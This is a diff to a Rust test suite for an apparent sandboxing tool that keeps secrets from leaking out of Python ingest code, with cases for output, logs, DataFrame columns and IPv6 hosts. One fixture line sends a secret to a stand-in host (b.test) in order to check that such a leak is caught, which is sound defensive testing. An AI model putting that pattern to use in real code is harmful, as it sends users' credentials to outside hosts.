@@ -42,6 +42,10 @@ type Seen = Arc<Mutex<Vec<String>>>;
 /// the query and the `Accept-Encoding` it was sent, marked gzip whatever
 /// it was asked for.
 fn server(seen: Seen) -> TestServer {
+    server_at("127.0.0.1:0", seen)
+}
+
+fn server_at(bind: &str, seen: Seen) -> TestServer {
     async fn handle(
         State(seen): State<Seen>,
         method: Method,
@@ -101,7 +105,7 @@ fn server(seen: Seen) -> TestServer {
             _ => "ok".into_response(),
         }
     }
-    TestServer::start(Router::new().fallback(handle).with_state(seen))
+    TestServer::start_at(bind, Router::new().fallback(handle).with_state(seen))
 }
 
 struct Rig {
@@ -616,6 +620,14 @@ fn a_value_brought_back_in_an_unknown_form_stops_the_run() {
         ("in_output", &format!("{fetch}    print('got', v)\n{RETURN}")),
         ("in_log", &format!("{fetch}    logging.getLogger('x').warning(v)\n{RETURN}")),
         ("in_error", &format!("{fetch}    raise ValueError(v)")),
+        (
+            "in_column",
+            &format!("{fetch}    return pd.DataFrame({{v: [1.0]}})"),
+        ),
+        (
+            "sent_on",
+            &format!("{fetch}    requests.get('https://b.test/x', params={{'k': v}})\n{RETURN}"),
+        ),
     ]);
     // A log line is printed to the run's output too, where it is seen first.
     for (batch, at) in [
@@ -623,8 +635,12 @@ fn a_value_brought_back_in_an_unknown_form_stops_the_run() {
         ("in_output", "output"),
         ("in_log", "output"),
         ("in_error", "error"),
+        ("in_column", "rows"),
     ] {
-        let out = rig.ingest(batch, &[], &[(NAME, VALUE)]);
+        // Recorded: a stopped run writes no cassette.
+        let cassette = rig._dir.path().join(format!("{batch}.yaml"));
+        let record = ["--record", cassette.to_str().expect("utf-8")];
+        let out = rig.ingest(batch, &record, &[(NAME, VALUE)]);
         let text = Rig::text(&out);
         assert!(!out.status.success(), "{batch}: {text}");
         assert!(
@@ -632,6 +648,60 @@ fn a_value_brought_back_in_an_unknown_form_stops_the_run() {
             "{batch}: {text}"
         );
         assert_eq!(holds_value(text.as_bytes()), None, "{batch}: {text}");
+        assert!(!cassette.exists(), "{batch}: a cassette was written");
     }
+    let out = rig.ingest("sent_on", &[], &[(NAME, VALUE)]);
+    let text = Rig::text(&out);
+    assert!(
+        text.contains(&format!("the code sent the value of secret {NAME} itself")),
+        "{text}"
+    );
+    assert!(rig.b.lock().expect("lock").is_empty(), "b.test was reached");
     assert_nowhere_under(rig._dir.path());
+}
+
+/// A secret bound to an IPv6 address: its echoes come back as the
+/// placeholder too (the address is matched without its brackets).
+#[test]
+fn a_secret_bound_to_an_ipv6_address_is_scrubbed_from_its_replies() {
+    let seen: Seen = Default::default();
+    let v6 = server_at("[::1]:0", seen.clone());
+    let dir = tempfile::tempdir().expect("tmp");
+    let policy = dir.path().join("p.yaml");
+    std::fs::write(
+        &policy,
+        format!("allow_http_private: true\nsecrets:\n  {NAME}: {{hosts: [\"::1\"], http: true}}\n"),
+    )
+    .expect("policy");
+    let f = Folder::with_defaults();
+    f.write(
+        "b/v6.py",
+        &format!(
+            "import os\nimport pandas as pd\nimport requests\n\ndef ingest():\n    \
+             r = requests.get('http://[::1]:{}/echo', params={{'key': os.environ['{NAME}']}})\n    \
+             return pd.DataFrame({{'metric_name': ['q_' + r.json()['query']], 'metric_value': [1.0], \
+             'metric_timestamp': [pd.Timestamp.now(tz='UTC')]}})\n",
+            v6.addr.port()
+        ),
+    );
+    f.write(
+        "b/v6.yaml",
+        &format!("metric_batch: v6\ningest_fn: >\n  {{% include \"./b/v6.py\" %}}\ningest_env: [{NAME}]\nhttp_allow_private: true\n"),
+    );
+    let db = dir.path().join("m.duckdb");
+    let out = run_sandstack(
+        &["ingest", "v6", "--policy", policy.to_str().expect("utf-8")],
+        &f,
+        &db,
+        &[(NAME, VALUE)],
+    );
+    let text = Rig::text(&out);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("q_key=SANDSTACK-SECRET-"), "{text}");
+    assert!(
+        holds_value(seen.lock().expect("lock").join("\n").as_bytes()).is_some(),
+        "the bound address got the value"
+    );
+    assert_eq!(holds_value(text.as_bytes()), None, "{text}");
+    assert_nowhere_under(dir.path());
 }
